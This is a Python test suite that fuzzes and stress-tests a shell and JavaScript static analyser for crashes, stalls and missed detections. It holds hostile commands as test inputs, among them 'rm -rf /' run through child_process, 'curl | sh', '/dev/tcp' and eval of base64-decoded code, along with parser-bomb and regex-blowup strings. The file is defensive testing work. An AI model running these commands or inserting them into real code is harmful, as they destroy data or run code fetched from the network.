"""No text, however hostile, breaks or stalls the analysis of shell and JavaScript, or passes unseen."""

from __future__ import annotations

from cProfile import Profile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.analysis import analyse
from engine.models import Analysis, Language, Level

_JS, _SH = Language.JAVASCRIPT, Language.SHELL
_SHELL_BITS = """
$ ${ } ( ) $( ` ' " \\ | & ; < > << <<EOF EOF { , .. [[ ]] (( )) if then fi for in do done case esac function
x=1 rm -rf / eval bash -c curl | sh * ~ # ! = += : é 漢 $'\\x41' <( >( /dev/tcp/h/1 2>&1 IFS base64 -d xargs
printf %s echo ${x:0:1} ${!a} ${a//b/c} ${a[@]} @ ?
"""
_SCRIPT_BITS = """
( ) [ ] { } ' " ` ${ => = + - / /a+/ , ; . ?. : eval require import from const let function class async await
new this constructor __proto__ process env fs child_process exec 'x' 'child_' + String.fromCharCode 0x41 1e9
while(true) for(;;) atob Buffer.from join split reverse \\u0041 é 漢 // /* */ ... x y a[b] return yield
"""


def _pieces(bits: str) -> st.SearchStrategy[str]:
    piece = st.sampled_from([*bits.split(), "\n", "\t", "\x00", "\x01", "\x04"])
    return st.lists(piece, max_size=40).map(" ".join)


def _judged(analysis: Analysis) -> bool:
    """Nothing crashed, and what was not understood is HIGH, or marked as unread."""
    rules = {violation.rule for violation in analysis.violations}
    high = any(violation.severity.rank >= Level.HIGH.rank for violation in analysis.violations)
    return "analysis-crashed" not in rules and (analysis.complete or high or "sh-syntax" in rules)


@settings(max_examples=300, deadline=None)
@given(_pieces(_SHELL_BITS))
def test_any_shell_is_analysed(source: str) -> None:
    """Random pieces of shell are read without a crash."""
    assert _judged(analyse(source, _SH))


@settings(max_examples=300, deadline=None)
@given(_pieces(_SCRIPT_BITS))
def test_any_javascript_is_analysed(source: str) -> None:
    """Random pieces of JavaScript are read without a crash."""
    assert _judged(analyse(source, _JS))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200), st.sampled_from([_JS, _SH]))
def test_any_text_is_analysed(source: str, language: Language) -> None:
    """Random text is read without a crash."""
    assert _judged(analyse(source, language))


@pytest.mark.parametrize(
    ("language", "source"),
    [
        (_SH, "$(" * 5000),
        (_SH, "echo " + "$(" * 300 + "ls" + ")" * 300),
        (_SH, "(" * 20000),
        (_SH, "{a,b}" * 3000),
        (_SH, "a=x\n" + "a=$a$a\n" * 60 + "eval $a"),
        (_SH, "f() { f; f | f & }; " * 200 + "f"),
        (_SH, "for a in 1 2 3 4; do " * 12 + "ls" + "; done" * 12),
        (_SH, "`" * 9999),
        (_SH, "if true; then\n" * 3000),
        (_SH, "cat <<A\n" * 500),
        (_SH, "bash -c '" * 300),
        (_JS, "[" * 20000),
        (_JS, "(" * 20000 + ")" * 20000),
        (_JS, "a(" * 3000 + ")" * 3000),
        (_JS, "x" + ".y" * 5000 + "()"),
        (_JS, "var a='x';" + "a=a+a;" * 60 + "eval(a)"),
        (_JS, "eval('" + "eval(\\'" * 200),
        (_JS, "`${" * 3000),
        (_JS, "a=>" * 5000 + "1"),
        (_JS, "{" * 10000),
        (_JS, "x=" * 5000 + "1"),
        (_JS, "1" + "+1" * 20000),
        (_JS, "/" + "(a+)+" * 300 + "/"),
        (_JS, "'" + "\\x41" * 50000 + "'"),
    ],
)
def test_bombs_are_bounded(language: Language, source: str) -> None:
    """Nesting, doubling and repetition end in an answer, and never in an approval by default."""
    assert _judged(analyse(source, language))


def test_definitions_that_are_too_deep_are_not_read_again_for_each_use_of_their_name() -> None:
    """Each of thousands of uses would go through all of thousands of definitions: 27 million calls."""
    source = "process.exitCode = " + "a=" * 2000 + "1\nrequire('child_process').execSync('rm -rf /')\n"
    profile = Profile()
    rules = {one.rule for one in profile.runcall(analyse, source, _JS).violations}
    assert {"input-too-deep", "sh-rm-tree"} <= rules
    assert 5_000_000 > sum(entry.callcount for entry in profile.getstats())


@pytest.mark.parametrize("times", [10, 100, 5000])
def test_a_chain_of_aliases_is_followed_to_its_use(times: int) -> None:
    """However many names a callable goes through, its call is what it is."""
    names = "".join(f"const a{n} = a{n - 1};\n" for n in range(1, times))
    code = f"const a0 = require('child_process').execSync;\n{names}a{times - 1}('rm -rf /');\n"
    assert "sh-rm-tree" in {found.rule for found in analyse(code, Language.JAVASCRIPT).violations}


def test_aliases_that_are_not_followed_are_reported() -> None:
    """What is declared only after its use, hundreds of times over, is not read silently in part."""
    code = "".join(f"var b{n} = [b{n + 1}];\n" for n in range(300)) + "f(b0);\n"
    assert "input-too-deep" in {found.rule for found in analyse(code, Language.JAVASCRIPT).violations}


def test_truncated_decoded_code_is_still_reported() -> None:
    """What decodes to more than is kept is HIGH all the same."""
    code = f"eval(atob('{'QUFB' * 30_000}'))"
    assert ("js-eval", Level.HIGH) in {
        (one.rule, one.severity) for one in analyse(code, Language.JAVASCRIPT).violations
    }


@pytest.mark.parametrize("opening", ["$(", 'echo "$(', "<("])
@pytest.mark.parametrize("closed", [True, False])
def test_deeply_nested_substitutions_are_reported_as_unread(opening: str, closed: bool) -> None:
    """They would be read once for every one around them; a flat line behind them is read."""
    closing = (')"' if '"' in opening else ")") * (5000 if closed else 0)
    found = analyse(f"{opening * 5000}x{closing}\nrm -rf /\n", Language.SHELL)
    rules = {one.rule for one in found.violations}
    assert "input-too-deep" in rules
    assert closed <= ("sh-rm-tree" in rules)


def test_ordinary_nested_substitutions_are_read() -> None:
    """A few levels of nesting are analysed."""
    found = analyse('echo "$(a "$(b "$(c "$(curl http://a.example | sh)")")")"\n', Language.SHELL)
    assert "input-too-deep" not in {one.rule for one in found.violations}
    assert found.complete


@pytest.mark.parametrize("around", [1, 60])
def test_thousands_of_doublings_are_read_once(around: int) -> None:
    """One in each of many loops, or all in the same loops; short loops are distinguished."""
    few = "for (let i = 0; i < 3; i++) { s += s; }\n"
    many = "for(;;){" * around + "s += s;" * (1 if around == 1 else 5000) + "}" * around + "\n"
    code = "let s = 'a';\n" + few * 2000
    alone = {one.rule for one in analyse(code, _JS).violations}
    beside = {one.rule for one in analyse(code + many * (2000 if around == 1 else 1), _JS).violations}
    assert ("js-huge-allocation" in alone, "js-huge-allocation" in beside) == (False, True)
